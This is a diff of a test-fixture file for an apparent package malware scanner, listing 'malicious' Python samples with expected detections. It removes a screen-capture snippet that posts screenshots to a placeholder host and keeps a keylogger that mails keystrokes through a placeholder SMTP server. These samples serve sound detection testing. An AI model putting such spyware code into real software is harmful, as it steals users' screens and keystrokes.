@@ -8,13 +8,6 @@ function at(rule: string, severity: 'medium' | 'high', line: number): Sample['ex
 export const samples: Samples = {
   malicious: [
     {
-      name: 'a function that sends pictures of the screen',
-      files: wheel(
-        'import requests\nfrom PIL import ImageGrab\ndef look():\n    requests.post("https://a.weir.test/x", data=ImageGrab.grab().tobytes())\n',
-      ),
-      expected: at('screen', 'medium', 4),
-    },
-    {
       name: 'keys that are mailed',
       files: wheel(
         "import smtplib\nfrom pynput import keyboard\nlog = []\ndef mail():\n    s = smtplib.SMTP('mail.weir.test')\n    s.sendmail('a@weir.test', 'b@weir.test', ''.join(log))\nmail()\nkeyboard.Listener(on_press=log.append).start()\n",
